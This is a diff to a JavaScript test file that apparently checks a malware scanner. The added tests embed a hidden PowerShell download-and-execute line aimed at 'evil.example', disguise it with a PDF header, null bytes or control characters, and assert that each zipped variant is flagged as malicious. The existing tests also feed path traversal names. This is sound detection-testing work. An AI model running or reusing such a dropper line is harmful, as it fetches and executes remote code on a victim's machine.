@@ -150,3 +150,17 @@ test('a name of any shape is only a name', () => {
   for (const name of ['', '.', '../../etc/passwd', 'a'.repeat(100_000), '\0.ps1', '\ud800.ps1', '(.ps1', '.ps1'])
     assert.ok(isInfected(threat, name), JSON.stringify(name.slice(0, 40)))
 })
+
+suite('a script that looks like another type', () => {
+  const script = 'new ActiveXObject("WScript.Shell").Run("powershell -w hidden -c iex(iwr http://evil.example/a)")'
+  const forms = {
+    'the header of a PDF': `${script}//%PDF-1.7`,
+    'a null character in a comment': `${script}//\0`,
+    'control characters in a text': `var a="\x01\x02\x03\x04\x05";${script}`,
+  }
+  for (const [form, text] of Object.entries(forms))
+    test(`${form}, in an archive`, () => {
+      const { findings } = inspect(zip('a.js', Buffer.from(text, 'latin1')), { name: 'a.zip' })
+      assert.ok(findings.some(({ severity }) => severity === 'malicious'))
+    })
+})
